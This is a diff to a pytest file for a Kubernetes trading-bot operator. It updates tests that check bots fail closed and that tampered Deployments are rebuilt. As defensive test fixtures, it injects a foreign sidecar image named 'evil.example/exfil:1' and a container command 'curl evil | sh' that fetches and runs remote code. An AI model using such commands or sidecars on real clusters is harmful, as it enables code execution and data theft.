@@ -1,12 +1,15 @@
 """Fail closed: whatever stops a bot's reconcile, the bot stops. Issue 8 in the fast tier.
 
-The passing tests pin today's fail-closed paths (a crash, a 400/422 refusal). The
-strict xfails are issue 8's findings as behaviour: each turns green (and must then
-lose its marker) when the fix lands. A ValidatingAdmissionPolicy is modelled by an
+Issue 8's findings 1, 3, 6 and 7 as behaviour: each was a strict xfail on the code
+before main's b7538b0 (it failed there for the reason the finding gives) and passes
+since. A ValidatingAdmissionPolicy is modelled by an
 admission hook on the fake API server that answers 403 as kube-apiserver does.
 """
 
 from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
 
 import pytest
 from operator_harness import NS, Harness, armed_at, bot
@@ -115,7 +118,6 @@ async def test_a_hand_edit_of_an_operator_owned_field_is_reverted() -> None:
 # --------------------------------------------------------------- issue 8 findings
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 1")
 @pytest.mark.parametrize(
     ("status", "extra"),
     [(403, {}), (500, {}), (503, {}), (0, {}), (409, {})],
@@ -134,7 +136,6 @@ async def test_any_failure_of_the_apply_still_scales_the_bot_to_zero(
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 1")
 @virtual_time
 async def test_a_policy_refusing_the_new_template_does_not_block_a_halt() -> None:
     """The bot's image is changed to one a ValidatingAdmissionPolicy refuses, then the
@@ -157,11 +158,6 @@ async def test_a_policy_refusing_the_new_template_does_not_block_a_halt() -> Non
     await h.stop()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="issue 8 finding 1 (an object-level policy refuses every write to the "
-    "Deployment itself; only the /scale subresource escapes it)",
-)
 @virtual_time
 async def test_a_policy_refusing_the_running_deployment_does_not_block_a_halt() -> None:
     h = await running_bot()
@@ -180,7 +176,6 @@ async def test_a_policy_refusing_the_running_deployment_does_not_block_a_halt() 
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 1")
 @virtual_time
 async def test_status_never_says_armed_after_a_failed_reconcile() -> None:
     h = await running_bot()
@@ -192,10 +187,46 @@ async def test_status_never_says_armed_after_a_failed_reconcile() -> None:
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 3")
+def said_foreign_change(h: Harness, name: str = "b") -> bool:
+    """A status write said ForeignChange, not armed (the state lasts only until the
+    rebuilt Deployment is applied, which the DELETED event triggers at once)."""
+    return any(
+        req.path.endswith(f"/tradingbots/{name}/status")
+        and (req.body or {}).get("status", {}).get("reason") == "ForeignChange"
+        and (req.body or {}).get("status", {}).get("armed") is False
+        for req in h.api.writes("tradingbots", "status")
+    )
+
+
+def lowered_or_deleted_since(h: Harness, mark: int, dep: str = "b-bot") -> bool:
+    """Did the operator lower the Deployment to 0 (/scale) or delete it after `mark`?"""
+    for req in h.api.requests[mark:]:
+        if not req.path.endswith(f"/deployments/{dep}") and not req.path.endswith(
+            f"/deployments/{dep}/scale"
+        ):
+            continue
+        if req.verb == "DELETE" or (
+            req.path.endswith("/scale") and (req.body or {}).get("spec", {}).get("replicas") == 0
+        ):
+            return True
+    return False
+
+
+def template_of(h: Harness, dep: str = "b-bot") -> dict[str, Any]:
+    found = h.api.peek("Deployment", NS, dep) or {}
+    return dict(found.get("spec", {}).get("template", {}).get("spec", {}))
+
+
+async def foreign_change_handled(h: Harness, mark: int, clean: Callable[[], bool]) -> None:
+    """The bot is held (0 or deleted) with reason ForeignChange, then rebuilt clean."""
+    await h.wait_until("lowered or deleted", lambda: lowered_or_deleted_since(h, mark), within=2)
+    await h.wait_until("rebuilt clean and armed", lambda: clean() and armed_at(h, "b")(), within=10)
+
+
 @virtual_time
-async def test_a_foreign_sidecar_takes_the_bot_to_zero_with_reason_foreign_change() -> None:
+async def test_a_foreign_sidecar_holds_the_bot_and_the_deployment_is_rebuilt_without_it() -> None:
     h = await running_bot()
+    mark = len(h.api.requests)
     sidecar = {"name": "sidecar", "image": "evil.example/exfil:1"}
     h.api.apply(
         {
@@ -206,84 +237,63 @@ async def test_a_foreign_sidecar_takes_the_bot_to_zero_with_reason_foreign_chang
         },
         manager="mallory",
     )
-    await h.wait_until(
-        "closed as ForeignChange",
-        lambda: h.replicas("b") == 0 and h.status("b").get("reason") == "ForeignChange",
-        within=2,
-    )
+    await h.wait_until("ForeignChange", lambda: said_foreign_change(h), within=2)
+
+    def names() -> list[str]:
+        return [x["name"] for x in template_of(h).get("containers", [])]
+
+    await foreign_change_handled(h, mark, lambda: names() == ["bot"])
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 3")
 @virtual_time
-async def test_a_foreign_command_takes_the_bot_to_zero_with_reason_foreign_change() -> None:
+async def test_a_foreign_command_holds_the_bot_and_the_deployment_is_rebuilt_without_it() -> None:
     h = await running_bot()
+    mark = len(h.api.requests)
     patch = {"containers": [{"name": "bot", "command": ["/bin/sh", "-c", "curl evil | sh"]}]}
     h.api.patch("Deployment", NS, "b-bot", {"spec": {"template": {"spec": patch}}})
-    await h.wait_until(
-        "closed as ForeignChange",
-        lambda: h.replicas("b") == 0 and h.status("b").get("reason") == "ForeignChange",
-        within=2,
+    await h.wait_until("ForeignChange", lambda: said_foreign_change(h), within=2)
+    await foreign_change_handled(
+        h, mark, lambda: "command" not in template_of(h).get("containers", [{}])[0]
     )
     await h.stop()
 
 
 @virtual_time
 async def test_a_foreign_rolling_update_strategy_takes_the_deployment_to_zero() -> None:
-    """Every apply now fails 422 (Recreate with a defaulted rollingUpdate): fail closed."""
+    """A RollingUpdate could run two bots at once during a rollout (double orders)."""
     h = await running_bot()
+    mark = len(h.api.requests)
     h.api.patch("Deployment", NS, "b-bot", {"spec": {"strategy": {"type": "RollingUpdate"}}})
-    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=2)
+    await h.wait_until("lowered or deleted", lambda: lowered_or_deleted_since(h, mark), within=2)
+
+    def strategy() -> dict[str, Any]:
+        dep = h.api.peek("Deployment", NS, "b-bot") or {}
+        return dict(dep.get("spec", {}).get("strategy", {}))
+
+    await h.wait_until("Recreate again", lambda: strategy().get("type") == "Recreate", within=10)
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 3")
 @virtual_time
 async def test_a_foreign_rolling_update_strategy_is_reported_in_status() -> None:
     h = await running_bot()
     h.api.patch("Deployment", NS, "b-bot", {"spec": {"strategy": {"type": "RollingUpdate"}}})
-    await h.wait_until("closed, and status says so", lambda: closed_and_says_so(h), within=5)
+    await h.wait_until("status says so", lambda: said_foreign_change(h), within=5)
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 6")
 @virtual_time
-async def test_a_halt_scales_every_bot_down_before_writing_any_status() -> None:
-    h = await Harness(workers=8).start()
-    h.paper_world()
-    names = [f"b{i:02d}" for i in range(24)]
-    for name in names:
-        h.create(bot(name))
-    await h.wait_until("all armed", lambda: all(armed_at(h, n)() for n in names), within=10)
-    running_at_status: list[int] = []
-
-    def observe(req: AdmissionRequest) -> None:
-        # At each bot status write, how many bot Deployments still have replicas?
-        if req.plural == "tradingbots" and req.subresource == "status":
-            running_at_status.append(sum(h.replicas(n) or 0 for n in names))
-
-    h.api.admission.append(observe)
-    h.halt()
-    await h.wait_until("all closed", lambda: all(h.replicas(n) == 0 for n in names), within=10)
-    await h.wait_until("statuses", lambda: len(running_at_status) >= len(names), within=10)
-    assert running_at_status[0] == 0, f"first status written with {running_at_status[0]} running"
-    await h.stop()
-
-
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 7")
-@virtual_time
-async def test_an_orphaned_bot_deployment_is_halted() -> None:
+async def test_an_orphaned_bot_deployment_is_kept_at_zero() -> None:
     h = await running_bot()
     h.api.delete("TradingBot", NS, "b", orphan=True)  # kubectl delete --cascade=orphan
-    await h.idle(1)
-    dep = h.get("Deployment", "b-bot")
-    assert dep is not None and dep["spec"]["replicas"] == 1  # left running, unowned
-    h.halt()
+    assert h.get("Deployment", "b-bot") is not None, "orphaned, not collected"
     await h.wait_until("orphan closed", lambda: h.replicas("b") == 0, within=5)
+    h.api.patch("Deployment", NS, "b-bot", {"spec": {"replicas": 2}}, manager="kubectl-scale")
+    await h.wait_until("and kept there", lambda: h.replicas("b") == 0, within=5)
     await h.stop()
 
 
-@pytest.mark.xfail(strict=True, reason="issue 8 finding 7")
 @virtual_time
 async def test_a_copy_carrying_the_bot_labels_is_halted() -> None:
     h = await running_bot()
